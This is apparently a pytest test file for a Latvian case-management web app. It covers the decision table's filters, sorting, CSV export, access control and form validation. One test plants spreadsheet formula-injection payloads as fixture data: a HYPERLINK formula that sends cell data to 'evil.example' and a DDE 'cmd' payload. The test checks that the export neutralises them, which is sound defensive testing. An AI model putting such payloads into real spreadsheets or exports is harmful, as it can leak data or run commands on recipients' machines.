"""The execution table of a group and the page of a decision."""

from __future__ import annotations

from datetime import timedelta

import pytest

from casework.extensions import db
from casework.groups.models import Decision
from tests.conftest import audit_actions
from tests.decisions.conftest import today


@pytest.fixture
def world(make_user, make_institution, make_group, make_decision, coordinator,
          make_meeting):
    school = make_institution("school", name="Skola Nr. 1")
    police = make_institution("municipal_police", name="Pašvaldības policija")
    teacher = make_user("specialist", institution=school)
    officer = make_user("specialist", institution=police)
    group = make_group(members=[teacher, officer])
    meeting = make_meeting(group)
    year = today().year
    decisions = {
        "late": make_decision(group, text="Nokavētais lēmums", institution=school,
                              due=today() - timedelta(days=3), meeting=meeting),
        "late_started": make_decision(group, text="Iesāktais nokavētais", institution=police,
                                      due=today() - timedelta(days=1), status="in_progress"),
        "in_time": make_decision(group, text="Laikā esošais", institution=police,
                                 due=today() + timedelta(days=30)),
        "done": make_decision(group, text="Izpildītais vecais", institution=school,
                              due=today() - timedelta(days=100), status="executed"),
        "last_year": make_decision(group, text="Pagājušā gada lēmums", institution=school,
                                   year=year - 1, status="not_executed"),
        "draft": make_decision(group, text="Melnraksta lēmums", institution=school,
                               published=False),
    }
    return {"school": school, "police": police, "teacher": teacher, "officer": officer,
            "group": group, "coordinator": coordinator, "meeting": meeting, **decisions}


def _table(client, world, **params):
    response = client.get(f"/groups/{world['group'].id}/decisions", query_string=params)
    assert response.status_code == 200
    return response.get_data(as_text=True)


def test_group_table_lists_published_decisions_only(client, world):
    client.login(world["coordinator"].email)
    html = _table(client, world)
    for key in ("late", "late_started", "in_time", "done", "last_year"):
        assert world[key].text in html
    assert "Melnraksta lēmums" not in html


def test_draft_decision_page_is_not_found(client, world):
    client.login(world["coordinator"].email)
    assert client.get(f"/decisions/{world['draft'].id}").status_code == 404


def test_overdue_decisions_are_marked_with_a_word(client, world):
    client.login(world["coordinator"].email)
    html = _table(client, world)
    rows = html[html.index("<tbody>"):html.index("</tbody>")].split("<tr")[1:]
    row_of = {key: next(r for r in rows if world[key].text in r)
              for key in ("late", "late_started", "in_time", "done")}
    for key in ("late", "late_started"):
        assert "nokavēts" in row_of[key], key
    for key in ("in_time", "done"):
        assert "nokavēts" not in row_of[key], key


@pytest.mark.parametrize("params, expected", [
    ({"status": "overdue"}, {"late", "late_started"}),
    ({"status": "in_progress"}, {"late_started"}),
    ({"status": "executed"}, {"done"}),
    ({"status": "open"}, {"late", "late_started", "in_time"}),
    ({"status": "closed"}, {"done", "last_year"}),
    ({"q": "NOKAVĒT"}, {"late", "late_started"}),
    ({"institution_id": "school"}, {"late", "done", "last_year"}),
    ({"year": "last"}, {"last_year"}),
    ({"year": "this", "institution_id": "police"}, {"late_started", "in_time"}),
])
def test_group_table_filters_by_year_status_and_institution(client, world, params, expected):
    client.login(world["coordinator"].email)
    query = dict(params)
    if "institution_id" in query:
        query["institution_id"] = world[query["institution_id"]].id
    if "year" in query:
        query["year"] = today().year - (1 if query["year"] == "last" else 0)
    html = _table(client, world, **query)
    for key in ("late", "late_started", "in_time", "done", "last_year"):
        assert (world[key].text in html) == (key in expected), key


def test_group_table_sorts_by_due_date_both_ways(client, world):
    client.login(world["coordinator"].email)
    order = ("done", "late", "late_started", "in_time")
    ascending = _table(client, world, sort="due")
    positions = [ascending.index(world[key].text) for key in order]
    assert positions == sorted(positions)
    descending = _table(client, world, sort="-due")
    positions = [descending.index(world[key].text) for key in order]
    assert positions == sorted(positions, reverse=True)


def test_unknown_filter_values_are_ignored_not_an_error(client, world):
    client.login(world["coordinator"].email)
    html = _table(client, world, status="bogus", year="x", institution_id="y")
    assert world["in_time"].text in html


def test_csv_export_has_the_filtered_rows_and_is_audited(client, world):
    client.login(world["coordinator"].email)
    response = client.get(f"/groups/{world['group'].id}/decisions.csv",
                          query_string={"status": "overdue"})
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    body = response.get_data(as_text=True)
    assert "Nokavētais lēmums" in body and "Laikā esošais" not in body
    assert "Melnraksta" not in body
    assert "decisions_exported" in audit_actions()


def test_csv_export_neutralises_cells_that_start_like_a_formula(client, world, make_decision,
                                                              make_institution):
    import csv
    import io

    evil = make_institution("school", name="@SUM(1+1)*cmd|' /C calc'!A0")
    make_decision(world["group"], text='=HYPERLINK("http://evil.example/?x="&A1,"Sīkāk")',
                  institution=evil)
    make_decision(world["group"], text="-2+3 speciālisti", institution=world["school"])
    client.login(world["coordinator"].email)
    body = client.get(f"/groups/{world['group'].id}/decisions.csv").get_data(as_text=True)
    cells = [c for row in csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";")
             for c in row]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Sīkāk\")" in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'-2+3 speciālisti" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_user_not_seeing_the_group_gets_404(client, world, make_user, make_institution):
    stranger = make_user("specialist", institution=make_institution("school"))
    client.login(stranger.email)
    decision = world["in_time"]
    assert client.get(f"/groups/{world['group'].id}/decisions").status_code == 404
    assert client.get(f"/groups/{world['group'].id}/decisions.csv").status_code == 404
    assert client.get(f"/decisions/{decision.id}").status_code == 404
    response = client.post_form(f"/decisions/{decision.id}/advance",
                                {"trigger": "start_execution", "version": decision.version},
                                token_from="/")
    assert response.status_code == 404


def test_admin_without_content_access_gets_404(client, world, login_as):
    login_as("admin")
    assert client.get(f"/groups/{world['group'].id}/decisions").status_code == 404
    assert client.get(f"/decisions/{world['in_time'].id}").status_code == 404


def test_other_municipality_sees_nothing(client, world, make_user, make_institution,
                                         make_municipality):
    other = make_municipality()
    far = make_user("coordinator", institution=make_institution("other", municipality=other))
    client.login(far.email)
    assert client.get(f"/groups/{world['group'].id}/decisions").status_code == 404
    assert client.get(f"/decisions/{world['in_time'].id}").status_code == 404


def test_decision_page_shows_text_institution_due_date_status_and_progress(client, world,
                                                                           app):
    client.login(world["teacher"].email)
    decision = world["late"]
    page = f"/decisions/{decision.id}"
    response = client.post_form(f"{page}/progress", {
        "version": decision.version, "on": today().isoformat(),
        "text": "Skola sagatavoja plānu"}, token_from=page)
    assert response.status_code == 302
    html = client.get(page).get_data(as_text=True)
    assert "Nokavētais lēmums" in html and decision.number in html
    assert "Skola Nr. 1" in html and "nokavēts" in html
    assert "Skola sagatavoja plānu" in html
    assert "gaida izpildi" in html
    # The meeting is linked when the groups' meeting page exists.
    assert (f"/meetings/{world['meeting'].id}" in html) == ("groups.meeting" in app.view_functions)


def test_member_of_another_institution_may_read_but_not_record(client, world):
    client.login(world["officer"].email)
    decision = world["late"]
    page = f"/decisions/{decision.id}"
    html = client.get(page).get_data(as_text=True)
    assert "Nokavētais lēmums" in html
    assert "/advance" not in html
    response = client.post_form(f"{page}/advance", {
        "trigger": "start_execution", "version": decision.version}, token_from=page)
    assert response.status_code == 403
    response = client.post_form(f"{page}/progress", {
        "version": decision.version, "on": today().isoformat(), "text": "X"}, token_from=page)
    assert response.status_code == 403


def test_transition_through_the_page(client, world):
    client.login(world["coordinator"].email)
    decision = world["in_time"]
    page = f"/decisions/{decision.id}"
    response = client.post_form(f"{page}/advance", {
        "trigger": "mark_not_executed", "version": decision.version,
        "on": today().isoformat(), "reason": "Vairs nav aktuāls"}, token_from=page)
    assert response.status_code == 302
    db.session.expire_all()
    found = db.session.get(Decision, decision.id)
    assert found.status == "not_executed" and found.not_executed_reason == "Vairs nav aktuāls"


def test_not_executed_without_reason_through_the_page_is_400_with_the_message(client, world):
    client.login(world["coordinator"].email)
    decision = world["in_time"]
    page = f"/decisions/{decision.id}"
    response = client.post_form(f"{page}/advance", {
        "trigger": "mark_not_executed", "version": decision.version,
        "note": "Mana piezīme"}, token_from=page)
    assert response.status_code == 400
    html = response.get_data(as_text=True)
    assert "Jānorāda, kāpēc lēmums nav izpildīts." in html
    assert "Mana piezīme" in html


def test_future_progress_entry_through_the_page_is_400_with_input_kept(client, world):
    client.login(world["teacher"].email)
    decision = world["late"]
    page = f"/decisions/{decision.id}"
    response = client.post_form(f"{page}/progress", {
        "version": decision.version, "on": (today() + timedelta(days=2)).isoformat(),
        "text": "Nākotnes ieraksts"}, token_from=page)
    assert response.status_code == 400
    assert "Nākotnes ieraksts" in response.get_data(as_text=True)


@pytest.mark.parametrize("data", [{"on": "", "text": "Teksts"}, {"on": "2020-13-45", "text": "T"},
                                  {"on": "2024-01-01", "text": ""}])
def test_bad_progress_form_is_400_never_500(client, world, data):
    client.login(world["teacher"].email)
    decision = world["late"]
    page = f"/decisions/{decision.id}"
    response = client.post_form(f"{page}/progress", {"version": decision.version, **data},
                                token_from=page)
    assert response.status_code == 400


def test_stale_form_is_409_with_input_kept(client, world):
    decision = world["in_time"]
    old_version = decision.version
    from casework.decisions import operations as ops

    ops.advance_decision(world["coordinator"], decision, "start_execution")
    db.session.commit()
    client.login(world["coordinator"].email)
    page = f"/decisions/{decision.id}"
    response = client.post_form(f"{page}/progress", {
        "version": old_version, "on": today().isoformat(),
        "text": "Ieraksts no vecas formas"}, token_from=page)
    assert response.status_code == 409
    assert "Ieraksts no vecas formas" in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.get(Decision, decision.id).progress[-1].text != "Ieraksts no vecas formas"


@pytest.mark.parametrize("trigger", ["bogus", "", "mark_executed"])
def test_unknown_or_impossible_trigger_is_400_never_500(client, world, trigger):
    client.login(world["coordinator"].email)
    decision = world["in_time"]
    page = f"/decisions/{decision.id}"
    response = client.post_form(f"{page}/advance", {"trigger": trigger,
                                                     "version": decision.version},
                                token_from=page)
    assert response.status_code == 400
    db.session.expire_all()
    assert db.session.get(Decision, decision.id).status == "pending"


def test_responsible_institution_sees_the_forms(client, world):
    client.login(world["teacher"].email)
    html = client.get(f"/decisions/{world['late'].id}").get_data(as_text=True)
    assert "Sākt izpildi" in html and "Atzīmēt kā neizpildītu" in html
    assert f"/decisions/{world['late'].id}/progress" in html
